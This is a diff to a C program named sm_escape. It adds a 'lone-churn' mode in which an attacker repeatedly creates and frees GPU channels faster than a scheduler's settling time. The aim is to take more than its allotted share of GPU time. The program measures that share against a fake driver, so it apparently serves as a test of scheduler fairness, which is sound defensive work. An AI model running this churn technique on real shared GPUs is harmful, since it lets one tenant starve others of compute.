@@ -20,6 +20,8 @@
  *                     scheduled, every CHURN_MS (less than the settling
  *                     time --sm waits before it switches a new group), the
  *                     previous one freed after the new one runs.
+ *   lone-churn        the same with a lone channel (RM makes its group),
+ *                     whose settling time runs from the channel's birth.
  * After WARM_MS, the share of GPU time is measured over MEASURE_MS from the
  * FAKE DRIVER's busy account (gpu0.busy_ms against now_ms; one client, so
  * the GPU's busy time is ours), while the attack goes on.
@@ -44,6 +46,7 @@
 #define H_LONE 0x5d00c000u
 #define H_HIDDEN 0x5d00c001u
 #define H_GROUP_BASE 0x5d00d000u
+#define H_LONE_BASE 0x5d00f000u
 #define H_CHAN_BASE 0x5d00e000u
 /* RM's generated handles (RS_UNIQUE_HANDLE_BASE, resserv/rs_client.h,
  * 580.95.05), and how many of them we try. */
@@ -152,12 +155,15 @@ static bool attack_step(const struct rmc_session *s, struct attack *a)
 		usleep(RESCHEDULE_US);
 		return true;
 	}
-	if (strcmp(a->mode, "group-churn") == 0 && now_ms() - a->last_churn >= CHURN_MS) {
+	bool groups = strcmp(a->mode, "group-churn") == 0, lone = strcmp(a->mode, "lone-churn") == 0;
+	if ((groups || lone) && now_ms() - a->last_churn >= CHURN_MS) {
 		unsigned next = a->gen + 1;
-		nv_handle_t old = H_GROUP_BASE + (a->gen % 2);
-		if (!make_group(s, H_GROUP_BASE + (next % 2), H_CHAN_BASE + (next % 2) * CHANNELS_PER_GROUP))
+		nv_handle_t base = groups ? H_GROUP_BASE : H_LONE_BASE;
+		bool made = groups ? make_group(s, base + (next % 2), H_CHAN_BASE + (next % 2) * CHANNELS_PER_GROUP)
+		                   : make_channel(s, s->device, base + (next % 2)) == NV_OK;
+		if (!made)
 			return false;
-		(void)rmc_free(s->fd, NULL, s->client, s->device, old);
+		(void)rmc_free(s->fd, NULL, s->client, s->device, base + (a->gen % 2));
 		a->gen = next;
 		a->churns++;
 		a->last_churn = now_ms();
@@ -182,7 +188,7 @@ int main(int argc, char **argv)
 	rmc_status_t hidden = NV_ERR_GENERIC;
 
 	if (argc != 4) {
-		fprintf(stderr, "usage: sm_escape internal-group|internal-resched|group-churn WARM_MS MEASURE_MS\n");
+		fprintf(stderr, "usage: sm_escape internal-group|internal-resched|group-churn|lone-churn WARM_MS MEASURE_MS\n");
 		return EXIT_SETUP;
 	}
 	a.mode = argv[1];
@@ -191,8 +197,10 @@ int main(int argc, char **argv)
 		fprintf(stderr, "sm_escape: session set-up failed\n");
 		return EXIT_SETUP;
 	}
-	if (strcmp(a.mode, "group-churn") == 0) {
-		if (!make_group(&s, H_GROUP_BASE, H_CHAN_BASE))
+	if (strcmp(a.mode, "group-churn") == 0 || strcmp(a.mode, "lone-churn") == 0) {
+		bool made = strcmp(a.mode, "group-churn") == 0 ? make_group(&s, H_GROUP_BASE, H_CHAN_BASE)
+		                                              : make_channel(&s, s.device, H_LONE_BASE) == NV_OK;
+		if (!made)
 			return EXIT_SETUP;
 		a.last_churn = now_ms();
 	} else {
